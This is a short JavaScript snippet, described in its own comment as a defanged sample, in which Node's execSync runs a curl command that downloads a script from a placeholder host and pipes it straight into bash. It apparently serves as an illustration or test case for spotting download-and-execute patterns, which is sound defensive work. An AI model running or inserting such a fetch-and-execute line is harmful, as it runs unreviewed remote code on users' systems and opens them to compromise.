// Defanged sample: download piped into a shell through child_process.
const { execSync } = require("child_process");
execSync("curl -s https://example.invalid/x.sh | bash");
